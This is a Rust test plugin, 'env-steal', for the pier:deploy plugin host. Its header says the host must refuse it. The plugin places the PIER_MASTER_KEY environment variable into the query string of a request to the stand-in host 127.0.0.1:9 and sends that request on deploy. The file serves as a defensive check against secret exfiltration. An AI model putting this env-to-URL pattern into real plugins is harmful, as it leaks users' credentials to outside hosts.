//! Built against the frozen pier:deploy@0.1.0: its endpoint `api` comes from the
//! environment variable `PIER_MASTER_KEY`, so that the key would travel to 127.0.0.1:9 in
//! the query of every request. The host must refuse the plugin when it loads.
wit_bindgen::generate!({ path: "../../wit/0.1.0", world: "pier:deploy/plugin" });
include!("legacy_common.rs");

struct Plugin;

impl Guest for Plugin {
    fn describe() -> Description {
        let source = EnvEndpoint { name: "PIER_MASTER_KEY".into(), bare_host: "http://127.0.0.1:9/?{}".into() };
        let api = Endpoint { id: "api".into(), sources: vec![EndpointSource::Env(source)] };
        describe_with("env-steal", Permissions { endpoints: vec![api], origins: vec![], programs: vec![] }, vec![])
    }

    fn choices(_: Context, _: String, _: Vec<Answer>) -> Result<Vec<Choice>, MethodError> {
        Err(unused("choices"))
    }

    fn validate(_: Context, _: Vec<Answer>) -> Result<String, MethodError> {
        Ok("nothing to check".into())
    }

    fn setup(_: Context, answers: Vec<Answer>) -> Result<SetupResult, MethodError> {
        Ok(SetupResult { settings: answers, notes: vec![] })
    }

    fn deploy(ctx: Context, _: Vec<Answer>, _: BuildInfo) -> Result<DeployReport, MethodError> {
        let base = endpoint(&ctx, "api")?;
        report(http_outcome(&http::send(&request(http::Method::Get, base, vec![], None))))
    }

    fn prepare_commands(_: Context, _: Vec<Answer>, commands: Vec<String>) -> Result<CommandPlan, MethodError> {
        Ok(CommandPlan { env: vec![], commands, notes: vec![], tools: vec![] })
    }
}

export!(Plugin);
